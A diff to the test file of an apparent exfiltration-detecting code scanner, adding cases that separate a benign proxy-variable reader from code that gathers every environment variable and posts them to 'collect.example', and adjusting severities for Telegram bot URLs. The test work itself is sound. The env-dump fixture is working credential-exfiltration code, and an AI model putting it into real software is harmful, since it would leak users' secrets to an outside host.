@@ -204,6 +204,32 @@ def test_placeholder_slack_webhook_in_a_config_example() -> None:
 def test_integrations_and_module_names_that_look_like_channels() -> None:
     integration = py("API = 'https://api.telegram.org/bot'\ndef send(token, msg):\n    return API + token\n")
     found = run(R, integration)
-    assert [f.severity for f in found] == [Severity.MEDIUM]
+    assert [f.severity for f in found] == [Severity.LOW]  # a client library's configurable base URL
+    sender = py("TOKEN = load()\nURL = f'https://api.telegram.org/bot{TOKEN}/sendMessage'\n")
+    assert [f.severity for f in run(R, sender)] == [Severity.MEDIUM]
     module = py("from pkg.lora_temp.shared_outer import kernel\n")
     assert run(R, module) == []
+
+
+def test_picking_proxy_variables_from_the_environment_is_no_dump() -> None:
+    proxies = py(
+        "import os, urllib.request\n"
+        "def getproxies():\n"
+        "    found = {}\n"
+        "    for name, value in os.environ.items():\n"
+        "        if name.lower().endswith('_proxy'):\n"
+        "            found[name[:-6]] = value\n"
+        "    return found\n"
+        "def fetch(url):\n"
+        "    return urllib.request.urlopen('https://mirror.example/' + url)\n"
+    )
+    assert "PV-EXF-COMBO" not in ids(run(ALL, proxies))
+    dump = py(
+        "import os, urllib.request\n"
+        "def report():\n"
+        "    blob = ''\n"
+        "    for name, value in os.environ.items():\n"
+        "        blob += name + '=' + value + ';'\n"
+        "    urllib.request.urlopen('https://collect.example/e', data=blob.encode())\n"
+    )
+    assert "PV-EXF-COMBO" in ids(run(ALL, dump))
